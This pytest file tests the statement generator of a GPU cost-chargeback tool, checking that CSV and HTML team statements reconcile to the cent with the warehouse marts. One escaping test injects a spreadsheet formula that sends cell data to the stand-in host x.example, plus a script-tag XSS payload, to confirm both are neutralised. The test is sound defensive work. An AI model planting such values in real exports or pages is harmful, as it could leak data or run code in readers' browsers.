"""Team statements: every line and total equals fct_chargeback_monthly to the cent; the GPU-hours,
rates, cost kinds and workload appendix are checked against the marts they come from."""

from __future__ import annotations

import csv
import html
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gpucost.commands import cli
from gpucost.commands.statements import (
    KINDS,
    MODE_LABELS,
    confidence_band,
    money,
    read_statements,
)

from .conftest import run_dbt

MONTH = "2026-10"
CENT = Decimal("0.01")


def _chargeback(warehouse) -> dict[tuple[str, str], dict[str, dict[str, Decimal]]]:
    """(team, currency) -> project -> column -> cents, straight from the mart."""
    rows = warehouse.sql(
        f"""
        select team_id, billing_currency, project_id, direct_cost, usage_cost, idle_cost,
            shared_cost, unallocated_cost, billed_cost, effective_cost
        from marts.fct_chargeback_monthly
        where strftime(billing_period_start, '%Y-%m') = '{MONTH}'
        """
    )
    out: dict[tuple[str, str], dict[str, dict[str, Decimal]]] = {}
    for team, currency, project, *amounts in rows:
        columns = [*KINDS, "billed", "effective"]
        out.setdefault((team, currency), {})[project] = dict(zip(columns, amounts, strict=True))
    return out


def _statements(warehouse: Path, *args: str) -> int:
    """Run ``gpucost statements --month MONTH --warehouse <warehouse> <args>``."""
    return cli.main(["statements", "--month", MONTH, "--warehouse", str(warehouse), *args])


@pytest.fixture(scope="module")
def statements_dir(generated_warehouse, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("statements")
    assert _statements(generated_warehouse.path, "--out", str(out)) == 0
    return out


def _read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_every_statement_line_and_total_equals_the_chargeback_mart(
    generated_warehouse, statements_dir
):
    expected = _chargeback(generated_warehouse)
    assert len(expected) >= 5, "the generated month should have the five teams and __unallocated__"
    files = sorted(statements_dir.glob("*.csv"))
    assert len(files) == 3 * len(expected)  # the statement, its GPU-hours, its workloads
    assert len([f for f in files if not f.stem.endswith(("_gpu_hours", "_workloads"))]) == len(
        expected
    )
    grand_total = Decimal(0)
    for (team, currency), projects in expected.items():
        path = statements_dir / f"statement_{MONTH}_{team}_{currency}.csv"
        rows = _read_csv(path)
        lines = {
            (row["project_id"], row["cost_kind"]): Decimal(row["billed_cost"])
            for row in rows
            if row["line_type"] == "line"
        }
        # every non-zero cell of the mart is a line, with the same cents; no other line exists
        cells = {
            (project, kind): amounts[kind]
            for project, amounts in projects.items()
            for kind in KINDS
            if amounts[kind] != 0
        }
        assert lines == cells, team
        for row in rows:
            if row["line_type"] == "project_total":
                amounts = projects[row["project_id"]]
                assert Decimal(row["billed_cost"]) == amounts["billed"]
                assert Decimal(row["effective_cost"]) == amounts["effective"]
        (total,) = [row for row in rows if row["line_type"] == "total"]
        team_billed = sum((amounts["billed"] for amounts in projects.values()), Decimal(0))
        team_effective = sum((amounts["effective"] for amounts in projects.values()), Decimal(0))
        assert Decimal(total["billed_cost"]) == team_billed
        assert Decimal(total["effective_cost"]) == team_effective
        assert sum(lines.values(), Decimal(0)) == team_billed
        assert all(row["team_id"] == team and row["billing_currency"] == currency for row in rows)
        grand_total += Decimal(total["billed_cost"])

    # the month's statements add up to the bill rounded to cents
    (bill,) = generated_warehouse.sql(
        "select sum(billed_cost) from staging.stg_focus__charges where quarantine_reason is null"
    )[0]
    assert grand_total == bill.quantize(CENT, rounding="ROUND_HALF_UP")


def test_html_carries_the_same_total_and_the_billing_mode(generated_warehouse, statements_dir):
    expected = _chargeback(generated_warehouse)
    modes = dict(
        generated_warehouse.sql("select team_id, billing_mode from reference.team_billing_modes")
    )
    assert modes["platform"] == "showback" and modes["nlp"] == "chargeback"
    for (team, currency), projects in expected.items():
        page = (statements_dir / f"statement_{MONTH}_{team}_{currency}.html").read_text()
        total = sum((amounts["billed"] for amounts in projects.values()), Decimal(0))
        assert f"{money(total)} {currency}" in page
        mode = modes.get(team, "chargeback")
        assert MODE_LABELS[mode] in page
        other = "showback" if mode == "chargeback" else "chargeback"
        assert MODE_LABELS[other] not in page
        # self-contained: no external assets
        for marker in ("<link", "<script", "src=", "http://", "https://", "@import"):
            assert marker not in page
        assert "@media print" in page
    showback = (statements_dir / f"statement_{MONTH}_platform_USD.html").read_text()
    assert "For information - not charged" in showback


def test_policies_and_attribution_add_up_to_the_statement(generated_warehouse):
    statements = read_statements(generated_warehouse.path, MONTH)
    bases = generated_warehouse.sql(
        "select distinct allocation_kind, allocation_basis from marts.fct_cost_allocation"
    )
    idle_bases = {basis for kind, basis in bases if kind == "idle"}
    # the default idle policy, for GPU time and for the nodes' CPU and memory parts
    assert idle_bases == {"idle_proportional", "cpu:idle_proportional", "memory:idle_proportional"}
    for statement in statements:
        assert sum((a for _, _, a in statement.policies), Decimal(0)) == statement.total_billed
        for kind in KINDS:
            kind_sum = sum((a for k, _, a in statement.policies if k == kind), Decimal(0))
            assert kind_sum == statement.kind_totals[kind]
        assert sum((a for _, a in statement.attribution), Decimal(0)) == statement.total_billed
        # the exact attribution amounts, apportioned: each within a few cents of the exact sum
        exact = dict(
            generated_warehouse.sql(
                "select attribution_method, sum(billed_cost) from marts.fct_cost_allocation "
                f"where team_id = '{statement.team_id}' group by 1"
            )
        )
        for method, cents in statement.attribution:
            assert abs(cents - exact[method]) < Decimal("0.10"), (statement.team_id, method)
        # every row has an attribution_confidence: the bands add up to the statement
        assert statement.confidence is not None
        assert sum((a for _, a in statement.confidence), Decimal(0)) == statement.total_billed
    nlp = next(s for s in statements if s.team_id == "nlp")
    idle_policies = {basis: amount for kind, basis, amount in nlp.policies if kind == "idle"}
    assert "idle_proportional" in idle_policies  # GPU time's idle, beside the CPU and memory parts'
    assert sum(idle_policies.values(), Decimal(0)) == nlp.kind_totals["idle"]
    assert ("shared", "shared_by_effective_cost", nlp.kind_totals["shared"]) in nlp.policies


def test_one_team_with_mode_override(generated_warehouse, tmp_path):
    args = ("--team", "nlp", "--mode", "showback", "--out", str(tmp_path))
    assert _statements(generated_warehouse.path, *args) == 0
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        f"statement_{MONTH}_nlp_USD.csv",
        f"statement_{MONTH}_nlp_USD.html",
        f"statement_{MONTH}_nlp_USD_gpu_hours.csv",
        f"statement_{MONTH}_nlp_USD_workloads.csv",
    ]
    page = (tmp_path / f"statement_{MONTH}_nlp_USD.html").read_text()
    assert "For information - not charged" in page
    rows = _read_csv(tmp_path / f"statement_{MONTH}_nlp_USD.csv")
    assert {row["billing_mode"] for row in rows} == {"showback"}
    assert _statements(generated_warehouse.path, "--team", "nobody", "--out", str(tmp_path)) == 2


def test_confidence_section_appears_when_the_column_exists(generated_warehouse):
    # a warehouse from before attribution_confidence existed: no section, a note instead
    older = generated_warehouse.copy("statements_no_confidence")
    with duckdb.connect(str(older)) as con:
        con.sql("alter table marts.fct_cost_allocation drop column attribution_confidence")
    page_without = read_statements(older, MONTH, team="nlp")
    assert page_without[0].confidence is None
    copy = generated_warehouse.copy("statements_confidence")
    with duckdb.connect(str(copy)) as con:
        # other scores, some missing ("not scored")
        con.sql(
            "alter table marts.fct_cost_allocation alter column attribution_confidence drop not null"
        )
        con.sql(
            """
            update marts.fct_cost_allocation set attribution_confidence = case attribution_method
                when 'bill_tag' then 1 when 'pod_label' then 0.95 when 'policy' then 0.7 end
            """
        )
    (statement,) = read_statements(copy, MONTH, team="nlp")
    bands = dict(statement.confidence)
    assert set(bands) == {"high", "medium", "not scored"}
    assert sum(bands.values(), Decimal(0)) == statement.total_billed
    exact = dict(
        generated_warehouse.sql(
            "select attribution_method, sum(billed_cost) from marts.fct_cost_allocation "
            "where team_id = 'nlp' group by 1"
        )
    )
    assert abs(bands["high"] - (exact["bill_tag"] + exact["pod_label"])) < Decimal("0.10")
    assert abs(bands["medium"] - exact["policy"]) < Decimal("0.10")
    # every other method (none, slurm_account, rule, model, ...) was left without a score
    unscored = sum(
        (
            amount
            for method, amount in exact.items()
            if method not in {"bill_tag", "pod_label", "policy"}
        ),
        Decimal(0),
    )
    assert set(exact) - {"bill_tag", "pod_label", "policy", "none"}, (
        "the month has other methods too"
    )
    assert abs(bands["not scored"] - unscored) < Decimal("0.10")
    from gpucost.commands.statements import render_html

    page = render_html(statement)
    assert "ML attribution is not enabled yet" not in page
    assert f'<td>high</td><td class="num">{money(bands["high"])}</td>' in page
    assert "ML attribution is not enabled yet" in render_html(page_without[0])


def test_confidence_bands():
    assert confidence_band(None) == "not scored"
    assert confidence_band(Decimal("0.9")) == "high"
    assert confidence_band(0.5) == "medium"
    assert confidence_band(Decimal("0.1")) == "low"
    assert confidence_band("likely") == "likely"


# -------------------------------------------------------------------------------------------------
# GPU-hours and unit rates, cost kinds in words, the workload appendix (issue 21)


def test_gpu_hours_and_rates_per_gpu_model_come_from_fct_gpu_usage(
    generated_warehouse, statements_dir
):
    statements = read_statements(generated_warehouse.path, MONTH)
    usage = generated_warehouse.sql(
        f"""
        select team_id, billing_currency, gpu_model, usage_kind, sum(gpu_hours), sum(billed_cost)
        from marts.fct_gpu_usage where strftime(billing_period_start, '%Y-%m') = '{MONTH}'
        group by all
        """
    )
    expected = {(r[0], r[1], r[2], r[3]): (r[4], r[5]) for r in usage}
    idle = dict(
        generated_warehouse.sql(
            f"""
            select allocations.team_id || '|' || lines.gpu_model, sum(allocations.billed_cost)
            from marts.fct_cost_allocation as allocations
            inner join (select distinct charge_id, gpu_model from marts.fct_gpu_usage) as lines
                on allocations.charge_id = lines.charge_id
            where allocations.allocation_kind = 'idle'
                and allocations.allocation_basis not like '%:%'
                and strftime(allocations.billing_period_start, '%Y-%m') = '{MONTH}'
            group by 1
            """
        )
    )
    seen = set()
    for statement in statements:
        for line in statement.gpu_lines:
            key = (statement.team_id, statement.billing_currency, line.gpu_model, line.usage_kind)
            hours, cost = expected[key]
            seen.add(key)
            assert line.gpu_hours == hours
            assert abs(line.gpu_time_cost - cost) < CENT  # rounded, never by a cent or more
            assert line.gpu_time_rate == (cost / hours).quantize(Decimal("0.0001"))
            carried = (
                idle.get(f"{statement.team_id}|{line.gpu_model}", 0)
                if line.usage_kind == "usage"
                else 0
            )
            assert line.effective_rate == ((cost + carried) / hours).quantize(Decimal("0.0001"))
    # every GPU-hour of the month is on one statement: the workloads' on their teams', idle on __idle__
    assert seen == set(expected)
    total_hours = sum((s.gpu_hours for s in statements), Decimal(0))
    (usage_hours,) = generated_warehouse.sql(
        f"select sum(gpu_hours) from marts.fct_gpu_usage "
        f"where strftime(billing_period_start, '%Y-%m') = '{MONTH}'"
    )[0]
    assert total_hours == usage_hours > 0
    # the CSV carries the same figures
    nlp = next(s for s in statements if s.team_id == "nlp")
    rows = _read_csv(statements_dir / f"statement_{MONTH}_nlp_USD_gpu_hours.csv")
    assert [
        (r["gpu_model"], Decimal(r["gpu_hours"]), Decimal(r["gpu_time_cost"])) for r in rows
    ] == [(line.gpu_model, line.gpu_hours, line.gpu_time_cost) for line in nlp.gpu_lines]
    page = (statements_dir / f"statement_{MONTH}_nlp_USD.html").read_text()
    assert "GPU-hours and unit rates" in page and f"{nlp.gpu_hours:,.2f} GPU-hours" in page


def test_cost_kinds_in_plain_words_add_up_to_the_statement(generated_warehouse, statements_dir):
    from gpucost.commands.statements_labels import KIND_LABELS

    expected = _chargeback(generated_warehouse)
    for (team, currency), projects in expected.items():
        rows = _read_csv(statements_dir / f"statement_{MONTH}_{team}_{currency}.csv")
        kinds = {r["cost_kind"]: r for r in rows if r["line_type"] == "kind_total"}
        for kind in KINDS:
            mart = sum((amounts[kind] for amounts in projects.values()), Decimal(0))
            if mart:
                assert Decimal(kinds[kind]["billed_cost"]) == mart, (team, kind)
                assert kinds[kind]["description"].startswith(KIND_LABELS[kind])
            else:
                assert kind not in kinds
        total = next(r for r in rows if r["line_type"] == "total")
        assert sum((Decimal(r["billed_cost"]) for r in kinds.values()), Decimal(0)) == Decimal(
            total["billed_cost"]
        )
        page = (statements_dir / f"statement_{MONTH}_{team}_{currency}.html").read_text()
        for kind in kinds:
            assert f"<td>{KIND_LABELS[kind]}</td>" in page


def test_the_workload_mart_adds_up_to_the_allocation(generated_warehouse):
    """rpt_statement_workloads holds every allocation row that names a workload, and no more."""
    rows = generated_warehouse.sql(
        """
        with mart as (
            select billing_period_start, billing_currency, team_id, attribution_method,
                sum(billed_cost) as billed, sum(effective_cost) as effective, sum(gpu_hours) as hours
            from marts.rpt_statement_workloads group by all
        ),
        source as (
            select billing_period_start, billing_currency, team_id, attribution_method,
                sum(billed_cost) as billed, sum(effective_cost) as effective
            from marts.fct_cost_allocation where workload_id is not null group by all
        )
        select source.team_id, source.attribution_method, source.billed, mart.billed,
            source.effective, mart.effective
        from source full outer join mart using (billing_period_start, billing_currency, team_id,
            attribution_method)
        """
    )
    assert rows
    for team, method, billed, mart_billed, effective, mart_effective in rows:
        assert mart_billed == billed and mart_effective == effective, (team, method)
    (hours, mart_hours) = generated_warehouse.sql(
        "select (select sum(gpu_hours) from marts.fct_gpu_usage where usage_kind = 'usage'), "
        "(select sum(gpu_hours) from marts.rpt_statement_workloads)"
    )[0]
    assert mart_hours == hours
    # an inferred placement always says why: the model's signals, the rule that matched and on what
    missing = generated_warehouse.sql(
        "select attribution_method, count(*) from marts.rpt_statement_workloads "
        "where attribution_method in ('model', 'rule', 'override') "
        "and coalesce(attribution_signals, '') = '' group by 1"
    )
    assert missing == []
    rules = generated_warehouse.sql(
        "select attribution_rule_id, attribution_signals from marts.rpt_statement_workloads "
        "where attribution_method = 'rule'"
    )
    for rule_id, signals in rules:
        assert signals.startswith(f"rule {rule_id}: ")


@pytest.fixture(scope="module")
def model_placed_warehouse(generated_warehouse) -> Path:
    """The generated month with the model placing money: the 3-day month has too few labelled
    workloads for the default target accuracy, so its attribution is rebuilt on a copy with a low
    fixed threshold (as test_attribution_warehouse does), and everything downstream of it: from the
    model versions, as the thresholds are a version's (the changed vars retrain it: 'settings')."""
    copy = generated_warehouse.copy("statements_model_placed")
    work = generated_warehouse.work / "statements_model_placed"
    work.mkdir(exist_ok=True)
    result = run_dbt(
        generated_warehouse.landing,
        copy,
        work,
        "run",
        "--select",
        "int_attribution_model_versions+",
        "--vars",
        "{gpucost_attribution_auto_threshold: 0.3, gpucost_attribution_target_accuracy: null}",
    )
    assert result.returncode == 0, result.stdout[-4000:]
    return copy


def _check_appendix(warehouse: Path) -> list:
    """Every statement's appendix nests in its attribution breakdown to the cent, is within a cent
    per row of the exact workload amounts, carries the workloads' GPU-hours and explains every
    inferred placement. Returns the statements."""
    statements = read_statements(warehouse, MONTH)
    with duckdb.connect(str(warehouse), read_only=True) as con:
        exact_rows = con.execute(
            "select team_id, attribution_method, sum(billed_cost) from marts.fct_cost_allocation "
            "where workload_id is not null and strftime(billing_period_start, '%Y-%m') = ? "
            "group by 1, 2",
            [MONTH],
        ).fetchall()
    exact = {(team, method): amount for team, method, amount in exact_rows}
    for statement in statements:
        attribution = dict(statement.attribution)
        by_method: dict[str, Decimal] = {}
        for line in statement.workloads:
            by_method[line.attribution_method] = (
                by_method.get(line.attribution_method, Decimal(0)) + line.billed_cost
            )
        for method, cents in attribution.items():
            backed = by_method.get(method, Decimal(0)) + statement.workload_remainders.get(
                method, Decimal(0)
            )
            assert backed == cents, (statement.team_id, method)
        assert set(by_method) <= set(attribution)
        for method, amount in by_method.items():
            count = sum(1 for line in statement.workloads if line.attribution_method == method)
            gap = abs(amount - exact[(statement.team_id, method)])
            assert gap <= CENT * (count + 1), (statement.team_id, method)
        assert sum((line.gpu_hours for line in statement.workloads), Decimal(0)) == sum(
            (g.gpu_hours for g in statement.gpu_lines if g.usage_kind == "usage"), Decimal(0)
        )
        for line in statement.workloads:
            if line.attribution_method in ("model", "rule"):
                assert line.attribution_signals, line.workload_id
    return statements


def test_the_appendix_backs_each_method_to_the_cent(generated_warehouse, statements_dir):
    statements = _check_appendix(generated_warehouse.path)
    methods = {line.attribution_method for s in statements for line in s.workloads}
    assert {"pod_label", "rule"} <= methods
    # the CSV: every row of the appendix, and they add up to the statement
    for statement in statements:
        rows = _read_csv(statements_dir / f"{statement.file_stem}_workloads.csv")
        assert len([r for r in rows if r["workload_id"]]) == len(statement.workloads)
        total = sum((Decimal(r["billed_cost"]) for r in rows), Decimal(0))
        assert total == statement.total_billed, statement.team_id


def test_the_model_placed_part_is_backed_workload_by_workload(model_placed_warehouse, tmp_path):
    statements = _check_appendix(model_placed_warehouse)
    with duckdb.connect(str(model_placed_warehouse), read_only=True) as con:
        (placed,) = con.execute(
            "select count(*) from marts.fct_cost_allocation where attribution_method = 'model'"
        ).fetchone()
    assert placed > 0, "a threshold of 0.3 places some workloads by the model"
    team = max(
        (s for s in statements if dict(s.attribution).get("model")),
        key=lambda s: dict(s.attribution)["model"],
    )
    argv = ["statements", "--month", MONTH, "--team", team.team_id]
    assert (
        cli.main([*argv, "--warehouse", str(model_placed_warehouse), "--out", str(tmp_path)]) == 0
    )
    rows = _read_csv(tmp_path / f"{team.file_stem}_workloads.csv")
    model_rows = [r for r in rows if r["attribution_method"] == "model"]
    # the model-placed part of the charge, to the cent: its workloads and its idle share
    model_cents = dict(team.attribution)["model"]
    assert sum((Decimal(r["billed_cost"]) for r in model_rows), Decimal(0)) == model_cents
    placed_rows = [r for r in model_rows if r["workload_id"]]
    assert placed_rows and all(r["attribution_signals"] for r in placed_rows)
    assert all(Decimal(r["attribution_confidence"]) >= Decimal("0.3") for r in placed_rows)
    page = (tmp_path / f"{team.file_stem}.html").read_text()
    assert "Appendix: the workloads behind the charge" in page
    first = next(line for line in team.workloads if line.attribution_method == "model")
    assert html.escape(first.attribution_signals) in page


def test_appendix_text_is_escaped_in_csv_and_html(generated_warehouse, tmp_path):
    """A landed value reaches the appendix (a pod name, a signal): neutralised in the CSV, escaped in
    the page."""
    copy = generated_warehouse.copy("statements_hostile_appendix")
    formula = '=HYPERLINK("http://x.example/?"&A1,"open")'
    markup = "<script>alert(1)</script>"
    with duckdb.connect(str(copy)) as con:
        (row_id,) = con.execute(
            "select statement_workload_id from marts.rpt_statement_workloads "
            "where team_id = 'nlp' order by billed_cost desc limit 1"
        ).fetchone()
        con.execute(
            "update marts.rpt_statement_workloads set user_id = ?, attribution_signals = ? "
            "where statement_workload_id = ?",
            [formula, markup, row_id],
        )
    assert cli.main(
        ["statements", "--month", MONTH, "--team", "nlp", "--warehouse", str(copy),
         "--out", str(tmp_path)]
    ) == 0  # fmt: skip
    rows = _read_csv(tmp_path / f"statement_{MONTH}_nlp_USD_workloads.csv")
    hostile = [r for r in rows if r["attribution_signals"] == markup]
    assert len(hostile) == 1 and hostile[0]["user_id"] == "'" + formula
    page = (tmp_path / f"statement_{MONTH}_nlp_USD.html").read_text()
    assert markup not in page and html.escape(markup) in page


def test_appendix_user_ids_are_pseudonymised_when_asked(generated_warehouse, monkeypatch):
    """With pseudonymisation on, the appendix shows the same keyed pseudonym as the Parquet marts,
    in the user column and in the signals' user= tokens."""
    from gpucost.commands.safe_output import Pseudonymiser

    (plain,) = read_statements(generated_warehouse.path, MONTH, team="nlp")
    secret = "statements-test-secret-0123456789abcdef"
    monkeypatch.setenv("GPUCOST_PSEUDONYMISE_USERS", "1")
    monkeypatch.setenv("GPUCOST_PSEUDONYMISE_SECRET", secret)
    (hidden,) = read_statements(generated_warehouse.path, MONTH, team="nlp")
    pseudonym = Pseudonymiser(secret.encode())
    users = [(a.user_id, b.user_id) for a, b in zip(plain.workloads, hidden.workloads, strict=True)]
    assert any(user for user, _ in users)
    for user, shown in users:
        assert shown == pseudonym(user)
        assert not user or user not in (shown or "")
    assert [b.billed_cost for b in hidden.workloads] == [a.billed_cost for a in plain.workloads]


_amounts = st.decimals(
    min_value=Decimal("-1000"), max_value=Decimal("100000"), places=6, allow_nan=False
)


@settings(max_examples=60, deadline=None)
@given(
    st.dictionaries(
        st.sampled_from(["pod_label", "rule", "model", "none"]),
        st.tuples(st.lists(_amounts, max_size=6), _amounts),
        min_size=1,
    )
)
def test_the_appendix_nests_in_each_methods_cents(methods):
    """Whatever the amounts (credits included), a method's workload rows and its remainder add up
    exactly to the method's cents in the breakdown, and every row of the mart is a line."""
    from gpucost.commands.statements_appendix import apportion, build_appendix

    rows, method_exact = [], {}
    for method, (workloads, other) in methods.items():
        for index, amount in enumerate(workloads):
            rows.append((f"{method}-{index}", "p", None, method, None, None, None, 1, amount))
        method_exact[method] = sum(workloads, Decimal(0)) + other
    method_cents = apportion(method_exact)
    lines, remainders = build_appendix(rows, method_exact, method_cents)
    assert len(lines) == len(rows)
    for method, cents in method_cents.items():
        backed = sum(
            (line.billed_cost for line in lines if line.attribution_method == method), Decimal(0)
        )
        assert backed + remainders.get(method, Decimal(0)) == cents, method
